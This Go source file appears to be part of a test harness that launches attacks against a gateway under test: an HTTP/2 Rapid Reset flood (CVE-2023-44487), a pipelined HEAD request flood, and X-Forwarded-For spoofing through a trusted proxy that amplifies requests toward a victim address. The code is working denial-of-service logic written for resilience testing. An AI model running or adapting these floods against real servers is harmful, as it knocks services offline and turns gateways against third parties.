package attacks

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rapidReset opens streams of HTTP/2 and resets each at once, resetRate a second and connection
// (CVE-2023-44487).
func rapidReset(ctx context.Context, a *arena) string {
	p := a.w.cached[0]
	var streams, conns atomic.Int64
	var running sync.WaitGroup
	for i := range 8 {
		running.Go(func() {
			for ctx.Err() == nil {
				path := p.Hash.Path() + "/" + p.Info.Name
				if i%2 == 0 {
					path = junk()
				}
				conns.Add(1)
				streams.Add(resetStreams(ctx, strangerAddr(i%4), path))
				time.Sleep(floodRest)
			}
		})
	}
	running.Wait()
	return fmt.Sprintf("%d streams in %d connections", streams.Load(), conns.Load())
}

// resetRate is how many streams a second a connection opens.
const resetRate = 10_000

// resetStreams is one connection, until it is cut.
func resetStreams(ctx context.Context, from, path string) (streams int64) {
	c, err := dialFrom(from).DialContext(ctx, "tcp", gatewayAddr+":8080")
	if err != nil {
		return 0
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return 0
	}
	var reading sync.WaitGroup
	defer reading.Wait()
	defer c.Close()
	reading.Go(func() { _, _ = io.Copy(io.Discard, c); c.Close() })
	var out, head bytes.Buffer
	f := http2.NewFramer(&out, nil)
	encoder := hpack.NewEncoder(&head)
	_ = f.WriteSettings()
	begun := time.Now()
	for id := uint32(1); id < 1<<20; id += 2 {
		head.Reset()
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", gatewayAddr + ":8080"}, {":path", path}} {
			_ = encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
		}
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true})
		_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
		streams++
		if id%64 != 63 {
			continue
		}
		if _, err := c.Write(out.Bytes()); err != nil {
			return streams
		}
		out.Reset()
		if ahead := time.Duration(streams)*time.Second/resetRate - time.Since(begun); ahead > 0 {
			time.Sleep(ahead) // or it would be the attackers who take the processor
		}
	}
	return streams
}

// headFlood asks for heads over many kept connections, as fast as they are answered.
func headFlood(ctx context.Context, a *arena) string {
	p := a.w.cached[0]
	request := []byte("HEAD " + p.Hash.Path() + "/" + p.Info.Name + " HTTP/1.1\r\nHost: " + gatewayAddr + "\r\n\r\n")
	var sent atomic.Int64
	var running sync.WaitGroup
	for i := range 32 {
		running.Go(func() {
			for ctx.Err() == nil {
				c, err := dialFrom(strangerAddr(i%4)).DialContext(ctx, "tcp", gatewayAddr+":8080")
				if err != nil {
					time.Sleep(floodRest)
					continue
				}
				sent.Add(pipeline(ctx, c, request))
				c.Close()
				time.Sleep(floodRest)
			}
		})
	}
	running.Wait()
	return fmt.Sprintf("%d requests", sent.Load())
}

// floodRest is how long who was refused or cut off stays away.
const floodRest = 50 * time.Millisecond

// pipeline sends requests without waiting for answers, until the connection is cut.
func pipeline(ctx context.Context, c net.Conn, request []byte) (sent int64) {
	defer context.AfterFunc(ctx, func() { c.Close() })()
	var reading sync.WaitGroup
	defer reading.Wait()
	reading.Go(func() { _, _ = io.Copy(io.Discard, c); c.Close() })
	batch := bytes.Repeat(request, 16)
	for {
		if _, err := c.Write(batch); err != nil {
			return sent
		}
		sent += 16
	}
}

// proxyAddr is that of a proxy that is trusted.
const proxyAddr = "52.0.0.1"

// throughProxy is A4 by a client behind a trusted proxy, which says in front of the address that
// the proxy adds that it is somebody else each time.
func throughProxy(ctx context.Context, a *arena) string {
	victim := victimAddr(1)
	serveHTTP(a.t, victim+":80", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Connection", "close")
		http.NotFound(rw, r)
	})
	s := newStranger(proxyAddr)
	every(ctx, 100, func(n int) {
		forged := fmt.Sprintf("47.%d.%d.1, 46.0.0.1", n>>8&255, n&255)
		s.ask(ctx, http.MethodGet, junk()+"?"+repeat(32, "tr", func(i int) string { return fmt.Sprintf("http://%s/%d-%d", victim, n, i) }),
			time.Second, "X-Forwarded-For", forged)
	})
	second, total := a.meter.of(netip.MustParseAddr(victim))
	return fmt.Sprintf("%v, %d contacts, %d in a second", s.answers, total, second)
}
